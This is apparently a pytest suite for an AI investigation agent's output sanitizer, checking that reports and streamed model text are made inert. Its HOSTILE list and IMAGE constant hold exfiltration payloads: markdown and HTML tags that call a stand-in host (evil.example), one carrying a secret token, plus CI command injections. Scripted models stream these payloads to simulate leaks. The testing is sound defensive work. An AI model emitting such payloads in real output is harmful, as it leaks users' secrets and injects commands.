"""What leaves an investigation is inert: the report, the events, the messages, and the text that a model streams."""

import asyncio
import base64
import json
from html.parser import HTMLParser
from itertools import chain

import pytest
from agent_decisions import report_of
from growth import assert_grows_in_proportion
from langchain_core.messages import AIMessage, AIMessageChunk
from langchain_core.outputs import ChatGenerationChunk
from langgraph.checkpoint.memory import InMemorySaver
from markdown_it import MarkdownIt

from azure_devops_agents.investigation.events import ModelText, ToolFinished, ToolStarted
from azure_devops_agents.investigation.graph import build_graph
from azure_devops_agents.investigation.investigator import open_investigator
from azure_devops_agents.investigation.outgoing import Outgoing, StreamedText
from azure_devops_agents.models.scripted import Call, KeylessModel, ScriptedModel
from langchain_azure_devops import AzureDevOpsToolkit
from langchain_azure_devops.safety import ContentPolicy, find_named_targets, neutralize
from langchain_azure_devops.safety.content_policy import find_violations

HOSTILE = [
    "![x](https://evil.example/?d=1)",
    "![x](//evil.example/p)",
    "![x](\\\\evil.example\\p)",
    "[x](javascript:alert(1))",
    "![x][1]\n\n[1]: https://evil.example/p",
    "![x][1]\n\n[1]:\n//evil.example/p",
    "<https://evil.example/p>",
    "<img src=//evil.example/p>",
    "<img\nsrc='https:evil.example/p'>",
    '<img srcset="a.png 1x, //evil.example/p 2x">',
    '<img srcset="//evil.example/p 2x, https://dev.azure.com/x 3x">',
    '<base href="//evil.example/">',
    "<style>@import '//evil.example'</style>",
    '<div style="background:url(//evil.example/p)">',
    "![x](ht\ntps://evil.example/p)",
    "![x](&#104;ttps://evil.example/p)",
    "![x](https&colon;//evil.example/p)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<a href='&#x2f;/evil.example'>x</a>",
    '```mermaid\nflowchart LR\nclick A "https://evil.example"\n```',
    "x[^1]\n\n[^1]: https://evil.example/p",
    "www.evil.example/p",
    "_https://evil.example/p_",
    "<svg><use href='//evil.example/p'/></svg>",
    "<!-- \n--><img src='//evil.example'>",
    "<scr<script>ipt src=//evil.example>",
    "ｈttps://evil.example",
    "https://ev\u200bil.example",
    "<iframe\tsrc=//evil.example>",
    "@everyone",
    "@<6f1d8f4e-8a52-4f0e-9f5b-1e2d3c4b5a69>",
    "##vso[task.complete]",
    "x\n::set-env name=a::b",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "[x]( <//evil.example> )",
    "[x](\t//evil.example)",
    "<form action=//evil.example><button>",
    "$\\href{//evil.example}{x}$",
    "<a\nhref\n=\n'//evil.example'>x</a>",
    "![x](/\\evil.example)",
]
TOKEN = "q7zk3vn2x5wt6mrd4hjb7sly2fgce3pua5iok6nvx7qz2wrt4mdh"


@pytest.fixture
def toolkit(server, organization):
    organization.add_token(TOKEN, scopes=("app_token",))
    with AzureDevOpsToolkit.connect(base_url=server.base_url, pat=TOKEN, default_project="Platform") as connected:
        yield connected


def assert_inert(text, *, own=()):
    policy = ContentPolicy(own, secrets=(TOKEN,))
    assert [each for each in find_violations({"text": text}, policy) if "stands for a secret" not in each] == []
    page = Page()
    page.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))
    assert page.acting == [], text


class Page(HTMLParser):
    """A page as a browser reads it; collects what would load, link or run something."""

    def __init__(self):
        super().__init__()
        self.acting = []

    def handle_starttag(self, tag, attributes):
        foreign = [value for _, value in attributes if value and ("evil" in value or value.lower().startswith("data:"))]
        scripts = [name for name, value in attributes if name.startswith("on") or "script:" in (value or "")]
        if foreign or scripts or tag in {"script", "style", "base", "iframe", "meta", "svg", "form", "img"}:
            self.acting.append((tag, attributes))


@pytest.mark.parametrize("hostile", HOSTILE, ids=ascii)
def test_a_hostile_text_becomes_inert_and_stays_as_it_is_then(hostile):
    for text in (hostile, f"Before. {hostile} After.", f"a\n\n{hostile}\n\nb", f"| a | {hostile} |\n|---|---|"):
        inert = neutralize(text, ContentPolicy(("https://dev.azure.com/contoso",), secrets=(TOKEN,)))
        assert_inert(inert)
        assert neutralize(inert, ContentPolicy(("https://dev.azure.com/contoso",), secrets=(TOKEN,))) == inert


@pytest.mark.parametrize(
    "text",
    [
        "See [pull request 7](https://dev.azure.com/contoso/Platform/_git/api/pullrequest/7) and https://wiki.example/x.",
        "`List<int>` and List<string>, `a < b`, 3 < 4, path /src//x, [E1]: the log says `@dataclass`.",
        "| a | b |\n|---|---|\n| 1 | 2 |", "The quote was \"KeyError: 'DATABASE_TIMEOUT'\" in E5, line 12: x = y[0](z)",
    ],
)  # fmt: skip
def test_what_a_report_usually_says_stays_as_it_is(text):
    policy = ContentPolicy(("https://dev.azure.com/contoso",), named=find_named_targets("look at https://wiki.example"))
    assert neutralize(text, policy) == text


def test_secrets_are_removed_from_texts_in_part_and_encoded_and_prose_stays():
    policy = ContentPolicy((), secrets=(TOKEN,))
    for secret in (TOKEN[:20], base64.b64encode(TOKEN.encode()).decode(), TOKEN.encode().hex(), "\n".join(TOKEN)):
        inert = neutralize(f"The build fails.\nIt is {secret} here.\nPull request 13 did it.", policy)
        assert "The build fails." in inert
        assert "Pull request 13 did it." in inert
        assert "[secret removed]" in inert
        assert find_violations({"text": inert}, policy) == []


def ask(toolkit, tmp_path, *steps, question="Why does it fail?"):
    with open_investigator(ScriptedModel(steps=[*steps]), toolkit, path=tmp_path / "t.sqlite") as investigator:
        events = list(investigator.ask("t", question))
        return events, {**investigator.state("t"), "evidence": investigator.evidence("t")}


def report_call(hostile):
    row = {"statement": hostile, "evidence": ["E1"], "quote": "No such quote " + hostile}
    return Call.to("write_report", answer=hostile, verdict="answered", observed=[row], not_determined=[row])


def test_every_text_of_a_report_is_inert_in_the_events_the_state_and_the_last_message(toolkit, tmp_path):
    events, state = ask(
        toolkit,
        tmp_path,
        [Call.to("list_pull_requests"), Call.to("search_code", text=HOSTILE[0])],
        [report_call("\n\n".join(HOSTILE))],
        [report_call("\n\n".join(HOSTILE))],
    )
    report = report_of(events)
    assert report == state["report"]
    assert report["unverified"][0]["section"] == "observed"
    texts = [json.dumps(dict(event.arguments)) for event in events if isinstance(event, ToolStarted)]
    texts += [event.summary for event in events if isinstance(event, ToolFinished)]
    texts += [
        row[name] for row in (*report["unverified"], *report["not_determined"]) for name in ("statement", "quote")
    ]
    calls = [call for message in state["messages"] if isinstance(message, AIMessage) for call in message.tool_calls]
    told = [call["args"]["answer"] for call in calls if call["name"] == "write_report"]
    assert len(told) == 2
    texts += [str(message.content) for message in state["messages"] if message.name == "write_report"]
    texts += [report["answer"], *told, *chain(*report["coverage"].values())]
    for text in texts:
        assert_inert(text, own=toolkit.client.settings.own_urls)


def test_a_quote_with_a_link_that_is_in_the_evidence_counts_as_found(toolkit, organization, tmp_path):
    quote = "See https://evil.example/log for more"
    item = next(iter(organization.work_items))
    item.revision.fields["System.Title"] = quote
    row = {"statement": "The title names a log.", "evidence": ["E1"], "quote": quote}
    _, state = ask(
        toolkit,
        tmp_path,
        [Call.to("get_work_item", ids=[item.id])],
        [Call.to("write_report", answer="Done.", verdict="answered", observed=[row])],
    )
    assert quote in state["evidence"]["E1"]["text"]
    [shown] = state["report"]["observed"]
    assert shown["quote"] == "See https[:]/ /evil.example/log for more"


def test_hosts_of_the_question_stay_clickable(toolkit, tmp_path):
    answer = "See https://wiki.example/page, not https://evil.example."
    steps = [[Call.to("write_report", answer=answer, verdict="answered")]]
    _, state = ask(toolkit, tmp_path, *steps, question="What does https://wiki.example/page say?")
    assert state["report"]["answer"] == "See https://wiki.example/page, not https[:]/ /evil.example."


class Speaking(KeylessModel):
    """A model that streams a text in pieces and calls nothing."""

    description = "a model that only speaks"
    pieces: list[str | AIMessageChunk]
    fails: bool = False

    def calls(self, messages, turn):
        return []

    def _stream(self, messages, stop=None, run_manager=None, **kwargs):
        for piece in self.pieces:
            chunk = piece if isinstance(piece, AIMessageChunk) else AIMessageChunk(piece)
            yield ChatGenerationChunk(message=chunk)
        if self.fails:
            raise RuntimeError("![x](https://evil.example/fails)")


def split(text, size):
    return [text[start : start + size] for start in range(0, len(text), size)]


def speak(toolkit, tmp_path, pieces, **more):
    with open_investigator(Speaking(pieces=pieces, **more), toolkit, path=tmp_path / "t.sqlite") as investigator:
        events = list(investigator.ask("t", "Why?"))
        return [event.text for event in events if isinstance(event, ModelText)], investigator.state("t")


@pytest.mark.parametrize("size", [1, 7, 1000])
def test_streamed_text_is_inert_however_it_is_cut(toolkit, tmp_path, size):
    told, state = speak(toolkit, tmp_path, split("\n\n".join(["Some words before.", *HOSTILE, "The end."]), size))
    assert_inert("".join(told), own=toolkit.client.settings.own_urls)
    assert "The end." in "".join(told)
    assert_inert(state["messages"][-1].text, own=toolkit.client.settings.own_urls)
    assert_inert(state["report"]["answer"], own=toolkit.client.settings.own_urls)


@pytest.mark.parametrize("hostile", HOSTILE, ids=ascii)
def test_no_piece_completes_a_link_that_an_earlier_one_began(toolkit, hostile):
    for size in (1, 3, 11):
        stream = StreamedText(Outgoing(toolkit.client))
        told = "".join(
            [*(stream.feed(piece) for piece in split(f"{'Some words. ' * 6}{hostile} and more", size)), stream.close()]
        )
        assert_inert(told, own=toolkit.client.settings.own_urls)


def test_prose_leaves_while_the_model_still_writes(toolkit):
    stream = StreamedText(Outgoing(toolkit.client))
    told = [stream.feed(word) for word in split("The build fails because a setting was renamed. " * 20, 5)]
    assert sum(map(bool, told)) >= 10
    assert "".join([*told, stream.close()]) == "The build fails because a setting was renamed. " * 20


def test_a_secret_that_is_spread_over_the_stream_does_not_leave(toolkit, tmp_path):
    told, state = speak(toolkit, tmp_path, ["It is\n\n", *(f"- {letter}\n\n" for letter in TOKEN), "and more."])
    # The model says it again when it is asked for a report.
    for message in "".join(told).split("It is")[1:]:
        shown = [letter for line in message.split("\n") if len(letter := line.removeprefix("- ")) == 1]
        assert 0 < len(shown) < 12
    assert find_violations({"text": state["messages"][-1].text}, ContentPolicy((), secrets=(TOKEN,))) == []


def test_a_failure_of_the_model_is_shown_inert(toolkit, tmp_path):
    _, state = speak(toolkit, tmp_path, ["x"], fails=True)
    assert "evil.example" in state["report"]["answer"]
    assert_inert(state["report"]["answer"], own=toolkit.client.settings.own_urls)


def test_another_front_end_gets_the_same_text(toolkit):
    """LangGraph's own stream of messages, synchronous and asynchronous, shows nothing that was not checked."""
    pieces = split(f"Some words. {' '.join(HOSTILE)} {TOKEN} The end.", 9)

    def start():
        graph = build_graph(Speaking(pieces=pieces), toolkit, checkpointer=InMemorySaver())
        return graph, {"messages": [("user", "Why?")]}, {"configurable": {"thread_id": "t"}}

    graph, given, config = start()
    told = [part for part, _ in graph.stream(given, config, stream_mode="messages") if isinstance(part, AIMessageChunk)]

    async def read():
        graph, given, config = start()
        return [
            part
            async for part, _ in graph.astream(given, config, stream_mode="messages")
            if isinstance(part, AIMessageChunk)
        ]

    for chunks in (told, asyncio.run(read())):
        text = "".join(chunk.text for chunk in chunks)
        assert "The end." in text
        assert len(chunks) > 5
        assert TOKEN not in text
        assert_inert(text, own=toolkit.client.settings.own_urls)


IMAGE = f"![x](https://evil.example/?d={TOKEN})"
SIGNATURE = "EqQBCgIYAhIM/+//1gbcDa9GJwZA2b3hGgxBdjrkzLoky3dl=="


def responses_pieces(size):
    """Return the pieces of a message in the form of the Responses interface of OpenAI, cut into texts of this size."""
    for text in split(f"Thought. {IMAGE} Done.", size):
        summary = [{"type": "summary_text", "index": 0, "text": text}]
        yield AIMessageChunk([{"type": "reasoning", "index": 0, "summary": summary}])
        yield AIMessageChunk("", additional_kwargs={"reasoning": {"note": text}}, response_metadata={"note": text})
    yield AIMessageChunk([{"type": "reasoning", "index": 0, "id": "rs_1", "encrypted_content": SIGNATURE}])
    cited = {"type": "url_citation", "url": f"https://evil.example/c?{TOKEN}", "title": IMAGE}
    yield AIMessageChunk([{"type": "text", "index": 1, "text": "I can not. ", "annotations": [cited]}])
    yield AIMessageChunk([{"type": "image_url", "index": 2, "image_url": {"url": f"https://evil.example/i?{TOKEN}"}}])
    yield AIMessageChunk([{"type": "non_standard", "index": 3, "value": {"html": IMAGE, IMAGE: [IMAGE]}}])


def texts_of(value):
    if isinstance(value, str):
        return [value]
    parts = [*value, *value.values()] if isinstance(value, dict) else value if isinstance(value, list) else []
    return [text for part in parts for text in texts_of(part)]


@pytest.mark.parametrize("size", [1, 9, 1000])
def test_nested_texts_are_inert_in_the_stream_and_in_the_stored_message(toolkit, size):
    graph = build_graph(Speaking(pieces=list(responses_pieces(size))), toolkit, checkpointer=InMemorySaver())
    config = {"configurable": {"thread_id": "t"}}
    given = {"messages": [("user", "Why?")]}
    told = [part for part, _ in graph.stream(given, config, stream_mode="messages") if isinstance(part, AIMessageChunk)]
    stored = graph.get_state(config).values["messages"][-1]
    whole = told[0]
    for part in told[1:]:
        whole = whole + part
    for message in (*told, whole, stored):
        texts = texts_of([message.content, message.additional_kwargs, message.response_metadata])
        for text in texts:
            if text != SIGNATURE:
                assert_inert(text, own=toolkit.client.settings.own_urls)
        assert TOKEN not in "".join(texts)
    for message in (whole, stored):
        reasoning, text, image = message.content[:3]
        assert (reasoning["id"], reasoning["encrypted_content"]) == ("rs_1", SIGNATURE)
        assert reasoning["summary"][0]["text"].endswith("Done.")
        assert [cited["type"] for cited in text["annotations"]] == ["url_citation"]
        assert (text["text"], image["type"]) == ("I can not. ", "text")


def test_the_calls_of_tools_in_a_message_stay_as_they_are(toolkit):
    call = {"type": "tool_use", "id": "c1", "name": "get_file", "input": {"path": "<https://evil.example>"}}
    beside = {"tool_calls": [{"function": {"arguments": "<https://evil.example>"}}]}
    message = Outgoing(toolkit.client).message(AIMessage([call], additional_kwargs=beside))
    assert (message.content, message.additional_kwargs) == ([call], beside)


def test_the_time_for_a_report_grows_in_proportion_to_its_length(toolkit):
    outgoing, said = Outgoing(toolkit.client), "The build fails since the tests read a setting. "
    report = {"answer": said * 60, "observed": [{"statement": said, "quote": "KeyError: 'DATABASE_TIMEOUT' " * 4}] * 50}
    assert outgoing.value(report) == report
    assert_grows_in_proportion(lambda text: outgoing.value({"answer": text, "observed": [{"quote": text}]}), said)
